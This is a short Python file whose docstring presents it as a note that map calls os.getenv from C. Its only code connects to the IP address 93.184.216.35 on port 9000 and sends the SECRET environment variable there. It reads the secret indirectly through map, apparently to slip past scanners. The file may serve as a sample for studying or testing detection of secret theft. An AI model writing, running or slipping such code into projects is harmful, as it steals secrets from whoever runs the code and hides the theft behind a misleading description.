"""map calls os.getenv from C."""
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(next(map(os.getenv, ["SECRET"])).encode())
